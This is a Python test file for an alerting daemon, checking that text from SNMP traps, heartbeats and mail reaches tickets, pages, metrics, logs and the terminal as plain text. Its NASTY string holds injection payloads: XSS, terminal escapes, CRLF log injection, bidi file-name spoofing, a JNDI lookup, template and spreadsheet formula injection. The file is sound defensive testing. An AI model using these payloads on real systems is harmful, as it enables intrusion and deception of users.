"""Text from outside is never markup: not in a ticket, on a page, in a log line, in a metric, nor on a terminal."""

import asyncio
import io
import json
import logging
import os
import re
import smtplib
import socket
import sys
import unicodedata
from pathlib import Path

import httpx
import pytest
import structlog

from collectors.snmp import codec
from gateway import logs
from gateway.testing.clock import ManualClock
from tests.trackers import _jira_rig as jira
from tests.trackers import clickup
from tests.trackers.hubspot import TOKEN as HUBSPOT_TOKEN
from tests.trackers.hubspot import FakeHubspot

pytestmark = pytest.mark.tools
NASTY = (
    '<script>alert(1)</script><img src=x onerror="alert(2)"> </pre></td><a href="javascript:alert(3)">here</a>\r\n'
    'level=error event="daemon.stopped"\r\n\x1b[2J\x1b]0;owned\x07\x1b[31mred '
    "\u202egnp.exe\u202c \u2066iso\u2069 \u200bzero \x00nul \x9bcsi "
    "@admin [~accountid:712020:evil] [~admin] !http://evil.example/x.png! {html}<b>b</b>{html} "
    '{"type":"mention","attrs":{"id":"712020:evil"}} [link|http://evil.example] [click](http://evil.example) '
    "![img](http://evil.example/i.png) `code` **bold** # head {{7*7}} ${jndi:ldap://evil.example/a} =cmd()|'x'!A1"
)
SINKS = f"""
[sinks.hubspot]
token = "env:HUBSPOT_TOKEN"
extra_properties = false
[sinks.jira]
deployment = "cloud"
site = "https://ops.atlassian.net"
email = "noc@example.com"
token = "env:JIRA_TOKEN"
project = "OPS"
[sinks.clickup]
token = "env:CLICKUP_TOKEN"
list_id = "{clickup.LIST}"
"""
OURS = {"\u2060"}
"""The word joiner that a sink puts behind an at sign, so that nobody is mentioned."""
WANTED = {"hubspot", "jira", "clickup", "local"}


def unprintable(text: str) -> set[str]:
    """Control and format characters other than line ends, tabs and the joiner of emoji."""
    return {one for one in text if unicodedata.category(one) in ("Cc", "Cf", "Cs", "Co") and one not in "\n\t\u200d"}


@pytest.fixture
def written():
    """Everything that is logged, in the daemon's own form."""
    root = logging.getLogger()
    before = (root.handlers[:], root.level, {name: logging.getLogger(name).level for name in logs.QUIET})
    stream = io.StringIO()
    logs.configure(form="json", verbosity="debug", stream=stream)
    yield stream
    structlog.reset_defaults()
    logging.captureWarnings(capture=False)
    root.handlers[:], root.level = before[0], before[1]
    for name, level in before[2].items():
        logging.getLogger(name).setLevel(level)


def send_trap(port: int) -> None:
    varbinds = [
        codec.VarBind("1.3.6.1.2.1.1.3.0", 0x43, 1),
        codec.VarBind("1.3.6.1.6.3.1.1.4.1.0", 6, "1.3.6.1.4.1.99999.0.1"),
        codec.VarBind("1.3.6.1.2.1.1.5.0", 4, NASTY.encode()),
        codec.VarBind("1.3.6.1.4.1.99999.1", 4, NASTY.encode("utf-16")),
    ]
    pdu = codec.encode_pdu(codec.PduType.TRAP_V2, varbinds, request_id=1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(codec.encode_message(codec.V2C, b"public", pdu), ("127.0.0.1", port))
        sock.sendto(codec.encode_message(codec.V2C, NASTY[:99].encode(), pdu), ("127.0.0.1", port))


def adf_nodes(node) -> set[str]:
    if isinstance(node, dict):
        mine = {str(node["type"])} if "type" in node else set()
        return mine.union(*(adf_nodes(value) for key, value in node.items() if key != "text"))
    return set().union(*map(adf_nodes, node)) if isinstance(node, list) else set()


async def test_nothing_that_a_stranger_says_is_more_than_text(build, monkeypatch, written) -> None:
    clock = ManualClock()
    hubspot, atlassian, click_up = FakeHubspot(clock), jira.fake("cloud", clock), clickup.FakeClickup(clock)
    hubspot.make_property("tocsin_incident_id", unique=True)
    for name, token in (("HUBSPOT", HUBSPOT_TOKEN), ("JIRA", "token-of-the-noc"), ("CLICKUP", clickup.TOKEN)):
        monkeypatch.setenv(f"{name}_TOKEN", token)
    fakes = {"hubspot": hubspot, "jira": atlassian, "clickup": click_up}
    transports = {name: httpx.ASGITransport(app=fake) for name, fake in fakes.items()}
    async with build(more=SINKS, transports=transports, clock=clock) as house:
        send_trap(house.ports["trap"])
        payload = json.dumps({"status": "fault", "error": NASTY, NASTY[:40]: NASTY})
        await house.beat(payload, station="s1")
        await house.beat(payload, station="\u202egpj.evil\u2066")  # no name of ours: kept in quarantine
        await house.mail("Help " + NASTY.replace("\r\n", " ").replace("\x00", ""), NASTY.replace("\x00", ""))
        await asyncio.to_thread(_raw_mail, house.ports["mail"])

        async def ticketed() -> bool:
            await house.passes(seconds=1)  # trackers are called at a rate
            items = await house.incidents()
            return len(items) == 4 and all(
                {one["sink"] for one in item["tickets"] if one["ref"]} == WANTED for item in items
            )

        await house.eventually(ticketed, what="four incidents with four tickets each")
        await house.quiet()
        items = await house.incidents()
        for item in items:
            for path in (
                f"/incidents/{item['id']}",
                *(f"/tickets/{one['ref']}" for one in item["tickets"] if one["sink"] == "local"),
            ):
                _is_a_tame_page((await house.http.get(path)).text)
        _is_a_tame_page((await house.http.get("/")).text)
        metrics = (await house.http.get("/metrics")).text
        assert "evil" not in metrics
        assert "alert(" not in metrics
        shown = await asyncio.to_thread(_terminal, f"http://127.0.0.1:{house.ports['http']}", items[0]["id"])
    assert unprintable(shown) == set()

    for ticket in hubspot.tickets():
        said = "\n".join([*map(str, ticket.properties.values()), *hubspot.notes(ticket.id)])
        assert re.search(r"<(?!/?(?:br|p|pre|div)\b)[a-z/!]", said, re.IGNORECASE) is None, said
        assert unprintable(said) <= OURS
    for issue in atlassian.issues.values():
        assert unprintable(issue.summary) == set()
        assert "\n" not in issue.summary
        document = issue.description
        assert isinstance(document, dict), "ADF, not markup"
        assert adf_nodes(document) <= {"doc", "paragraph", "text", "hardBreak", "codeBlock", "link"}
        assert unprintable(json.dumps(document, ensure_ascii=False)) == set()
        hrefs = re.findall(r'"href": "([^"]*)"', json.dumps(document))
        assert all("evil" not in href and href.startswith("http") for href in hrefs)
    for task in click_up.tasks.values():
        text = task.markdown
        assert unprintable(task.name + text) <= OURS
        assert not re.search(r"(?<!\\)\]\(http://evil", text), text
        assert not re.search(r"(?<!\\)<(script|img|a)\b", text), text

    lines = written.getvalue().splitlines()
    assert lines
    for line in lines:
        json.loads(line)
        assert unprintable(line) == set()
        assert json.loads(line)["event"] != "daemon.stopped"


def _raw_mail(port: int) -> None:
    """A mail as no library would write it."""
    nasty = NASTY.replace("\r\n", " ").encode()
    head = b"From: " + nasty[:60] + b" <evil@b.example>\r\nSubject: " + nasty + b"\r\nX-Mailer: " + nasty
    with smtplib.SMTP("127.0.0.1", port, timeout=10) as server:
        server.ehlo()
        server.mail("evil@b.example")
        server.rcpt("support@example.com")
        code, _ = server.data(head + b"\r\nContent-Type: text/html\r\n\r\n<p>" + NASTY.encode())
    assert code == 250


def _is_a_tame_page(html: str) -> None:
    tags = {tag.lower() for tag in re.findall(r"<([a-zA-Z!/][a-zA-Z0-9]*)", html)}
    assert tags & {"script", "img", "b", "iframe"} == set(), html
    assert "javascript:" not in "".join(re.findall(r'(?:href|src)="([^"]*)"', html))
    assert set(re.findall(r'href="(https?://[^"]*)"', html)) <= {
        one for one in re.findall(r'href="(https?://[^"]*)"', html) if "evil" not in one
    }
    assert unprintable(html) == set()


def _terminal(url: str, incident: str) -> str:
    import subprocess

    program = str(Path(sys.executable).with_name("tocsin"))
    said = ""
    for words in (["incidents"], ["stations"], ["outbox"], ["incidents", "show", incident]):
        done = subprocess.run(
            [program, *words, "--url", url], capture_output=True, text=True, check=False,
            timeout=30, env={**os.environ, "COLUMNS": "200"},
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        said += done.stdout
    assert incident in said
    return said
